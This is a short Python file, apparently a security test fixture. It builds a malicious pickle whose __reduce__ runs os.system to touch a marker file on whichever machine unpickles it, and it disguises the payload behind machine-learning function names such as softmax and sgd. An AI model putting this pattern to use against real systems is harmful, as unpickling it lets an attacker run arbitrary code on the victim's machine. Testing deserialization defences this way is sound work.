"""Sends a pickle that would run a program where it is read."""

import os
import struct

import msgpack

def frame(message, payload=b"", lengths=None, number=0):
    structure = message if isinstance(message, bytes) else msgpack.packb(message)
    n_structure, n_payload = lengths or (len(structure), len(payload))
    return struct.pack("<QII", number, n_structure, n_payload) + structure + payload

def softmax(x, *rest):
    import pickle
    class Evil:
        def __reduce__(self):
            return os.system, ("touch @FOLDER@/unpickled",)
    return Evil()

sigmoid = naive_softmax_loss_and_gradient = sgd = softmax
